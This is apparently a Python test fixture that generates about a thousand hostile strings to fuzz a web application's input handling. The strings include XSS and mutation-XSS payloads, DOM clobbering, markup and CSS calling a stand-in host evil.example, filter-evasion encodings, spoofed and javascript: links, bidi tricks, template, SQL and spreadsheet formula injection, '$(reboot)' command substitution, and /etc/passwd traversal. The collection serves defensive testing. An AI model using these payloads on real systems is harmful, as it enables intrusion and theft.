"""Texts of people who mean harm, at least a thousand: made here, and those of ../shared/data where it exists. What a browser would take for
a script calls `hostile()`; what it would fetch is at evil.example."""
import itertools
import json
import os
import pathlib

from rig.place import REPO

CALL = "hostile(1)"
AWAY = "http://evil.example"

# Markup that runs something, or fetches, or clobbers, if anybody ever makes elements of it.
MARKUP = [
    f"<script>{CALL}</script>", f"<script src={AWAY}/x.js></script>", f"<img src=x onerror={CALL}>", f"<img src={AWAY}/pixel.png>", f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></svg>", f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={CALL}&gt;\">", f"<math href=javascript:{CALL}>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>", f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={CALL}>\">", f"<listing>&lt;img onerror={CALL} src=x&gt;</listing>", f"<template><script>{CALL}</script></template>",
    f"<xmp><p title=\"</xmp><img src=x onerror={CALL}>\"></xmp>", f"<iframe src=javascript:{CALL}></iframe>", f"<iframe srcdoc=\"<script>parent.{CALL}</script>\"></iframe>",
    f"<object data=javascript:{CALL}></object>", f"<embed src={AWAY}/x.swf>", f"<base href={AWAY}/>", f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    f"<link rel=stylesheet href={AWAY}/x.css>", f"<link rel=dns-prefetch href={AWAY}>", f"<link rel=modulepreload href={AWAY}/x.js>", f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>x</details>", f"<video><source onerror={CALL}></video>", f"<audio src=x onerror={CALL}>", f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>", f"<marquee onstart={CALL}>x</marquee>", f"<a href=javascript:{CALL}>click</a>", f"<a href='data:text/html,<script>{CALL}</script>'>x</a>",
    f"<button formaction=javascript:{CALL}>x</button>", f"<isindex type=image src=1 onerror={CALL}>", f"<style>@import '{AWAY}/x.css';</style>",
    f"<style>*{{background:url({AWAY}/all)}} .row{{display:none!important}}</style>", "<style>body{visibility:hidden}</style>",
    f"<div style=\"position:fixed;inset:0;z-index:9999;background:url({AWAY}/over)\">over all</div>", f"<p style='behavior:url({AWAY}/x.htc)'>",
    # DOM clobbering.
    "<form id=app><input name=innerHTML></form>", "<a id=api><a id=api name=hooks href=x>", "<img name=getElementById>", "<form name=body></form>", "<input id=__proto__ name=constructor>",
    "<iframe name=session srcdoc=x></iframe>", "<object id=document name=cookie></object>", "<a id=location href=javascript:0>", "<form id=t><output name=text>clobbered</output></form>",
    "</bdi></span></a></li></ol><h1 id=content>out</h1>", "--><!-- </script></style></title></textarea></noscript></template></svg></math>", "<plaintext>", "<!--", "<![CDATA[", "]]>",
    "<?php echo 1 ?>", "<%= 7*7 %>", "</textarea><script>hostile(1)</script>", "</title><script>hostile(1)</script>", "<dialog open>Your session is over: <input type=password></dialog>",
    "<a id=is-live class='live is-live' role=status>Live</a>", "<bdo dir=rtl>backwards</bdo>", "<portal src=http://evil.example/>", "<fencedframe></fencedframe>",
]
# Ways to say the same so that a filter does not see it.
DISGUISES = [
    ("as it is", lambda s: s), ("entities", lambda s: s.replace("<", "&lt;").replace(">", "&gt;")), ("numbers", lambda s: "".join(f"&#{ord(c)};" for c in s)),
    ("hex without semicolon", lambda s: "".join(f"&#x{ord(c):x}" for c in s)), ("twice", lambda s: s.replace("<", "&amp;lt;")), ("percent", lambda s: s.replace("<", "%3C").replace(">", "%3E")),
    ("js escapes", lambda s: s.replace("<", "\\u003c").replace(">", "\\x3e")), ("full width", lambda s: s.replace("<", "＜").replace(">", "＞")), ("upper", lambda s: s.swapcase()),
    ("zero width", lambda s: "\u200b".join(s[:40]) + s[40:]), ("broken out of an attribute", lambda s: f"x\" onmouseover={CALL} y='{s}'>{s}"),
    ("tab in it", lambda s: s.replace("script", "scr\tipt").replace("on", "o\nn", 1)), ("soft hyphen", lambda s: s.replace("script", "scr\u00adipt")), ("old quotes", lambda s: f"`{s}´"),
    ("json", lambda s: json.dumps({"__html": s, "dangerouslySetInnerHTML": {"__html": s}})),
]
LINKS = [f"{scheme}{CALL}" for scheme in (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript://%0a", "javascript&colon;", "vbscript:", "data:text/html,<script>",
    "data:text/html;base64,", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "livescript:", "mocha:", "blob:http://evil.example/", "filesystem:http://evil.example/", "about:blank#")] + [
    "//evil.example/x", "///evil.example", "\\\\evil.example\\share", "file:///etc/passwd", "https://answerd.example@evil.example/", "https://evil.example\u2024com/", "https://xn--nswerd-0ta.example/",
    "https://аnswerd.example/ (Cyrillic a)", "http://evil.example/\u202Egnp.exe", "http://[::1]:8700/api/v1/staff", "http://127.0.0.1:8700/api/v1/session/end", "https://evil.example/" + "a" * 1500,
    "http://evil.example/?\u2028x", "https://user:password@bank.example/", "http://" + "\u0301" * 40 + "evil.example", "mailto:x@evil.example?body=1", "tel:+1900", "ftp://evil.example/x", "http:evil.example",
    "http://evil.example/%22%3E%3Cscript%3E", "https://evil.example/'onclick='hostile(1)", "https://evil.example/\"onclick=\"hostile(1)", "https://evil。example/", "http://0x7f.1/", "http://evil.example:99999/"]
BIDI = ["\u202egnp.exe", "\u202dleft\u202c", "\u2066isolate never closed", "\u2067\u2067\u2067\u2067deep", "\u202b" * 70 + "seventy", "user\u202e\u2066// admin\u2069\u2066", "\u200f(مرحبا) answered ✓", "שלום ABC 123 - 456 עולם!",
        "السعر 100% (خصم) ← اضغط", "\u2068first\u2069 \u2069\u2069\u2069 closes more than was opened", "abc\u061cdef", "1 \u202e2 3\u202c 4", "\u202eyad sruoh 2 ni euD\u202c", "مدير: تم الرد ✓", "\u2067RTL isolate \u202e in it", "א" * 300]
UNSEEN = ["\u200b" * 500, "zero\u200bwidth\u200b", "\ufeffbyte order mark", "\u2060\u2061\u2062\u2063 joiners", "\u3164", "\u115f\u1160", "\uffa0\uffa0", "\u00ad" * 50, "\u180e", "\u034f" * 30, "\U000e0001\U000e0041\U000e0042 tags",
          "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f England", "bell\u0007 back\u0008 esc\u001b[31mred\u001b[0m", "\u009b31mC1", "\u2028\u2029 lines", "\u0085next", "\ufff9anchor\ufffahidden\ufffb",
          "\u200d\u200d\u200d", "\u200c" * 64, "\u2800" * 40, "\u00a0" * 200, "\t\t\t\tcolumns", "a\r\nb\rc\n\n\n\nd", "\v\f"]
MARKS = [base + "".join(chr(0x300 + (i * 7 + n) % 0x70) for i in range(count)) for n, (base, count) in enumerate(itertools.product("Zal go", (5, 20, 80, 400)))] + \
        ["".join(c + "".join(chr(0x300 + (i * 11) % 0x70) for i in range(60)) for c in "H̸elp comes"), "ก็็็็็็็็็็็็็็็็็็็็ ก็็็็็็็็็็็็็็็็็็็็", "\u0489" * 50, "ᚠ" + "\u20dd\u20de\u20e0" * 20, "𒐫" * 60, "﷽" * 40, "꧁༺" * 30]
TEMPLATES = ["{{7*7}}", "${7*7}", "#{7*7}", "{customer}{me}{brand}", "{n}{who}{name}", "{{constructor.constructor('hostile(1)')()}}", "${hostile(1)}", "`${hostile(1)}`", "$&$`$'$1", "%s%n%d%x", "{0.__class__.__mro__}",
             "<%= hostile(1) %>", "[[${hostile(1)}]]", "*{T(java.lang.Runtime)}", "{% import os %}", "@{hostile(1)}", "\\u0068ostile(1)", "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN",
             "[object Object]", "true", "-0", "1e999", "=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tlead", "＝1＋1", "' or 1=1 --", "\\", "\\\\\\", "%00", "../../../etc/passwd", "$(reboot)", "`reboot`",
             "; drop table message; --", "\ud7ff", "\ufffe\uffff", "😀" * 100, "👨‍👩‍👧‍👦" * 30, "🇬🇧" * 60]
CSS = ["'}body{display:none}/*", "\";}*{color:red}", "expression(hostile(1))", "url(http://evil.example/css)", "@import 'http://evil.example/x.css'", "</style><script>hostile(1)</script>", "--row: 9999", "var(--accent)", "color:red !important",
       "\\3c script\\3e", "{}*{position:fixed}", "behavior:url(x)", "-moz-binding:url(http://evil.example/x.xml#a)", "[style]{background:url(http://evil.example/a)}"]
LONG = ["W" * 3000, "w " * 2000, "a" * 250 + "\u00ad" + "b" * 250, "\n" * 400 + "below", "<b>" * 500, "&" * 800, "- " * 500, "https://evil.example/" * 60, "ﷺ" * 500, "語" * 1500, "…" * 700, "\u0e33" * 300]


def shared():
    """The big list of naughty strings, where it is at hand."""
    path = pathlib.Path(os.environ.get("ANSWERD_SHARED") or REPO.parent / "shared") / "data" / "naughty_strings" / "blns.json"
    return json.loads(path.read_text(encoding="utf-8")) if path.exists() else []


def texts(n=1000):
    """The first `n`: what is not markup first, then markup in its disguises. As PostgreSQL keeps it: no NUL, nothing empty, no half of a pair."""
    made = [*LINKS, *BIDI, *UNSEEN, *MARKS, *TEMPLATES, *CSS, *LONG, *MARKUP, *shared(), *(f"{how(m)}" for (_, how), m in itertools.product(DISGUISES[1:], MARKUP))]
    kept = dict.fromkeys(t.replace("\0", "").encode("utf-16", "surrogatepass").decode("utf-16", "replace") for t in made)
    kept.pop("", None)
    out = list(kept)
    assert len(out) >= 1000
    return out[:n]
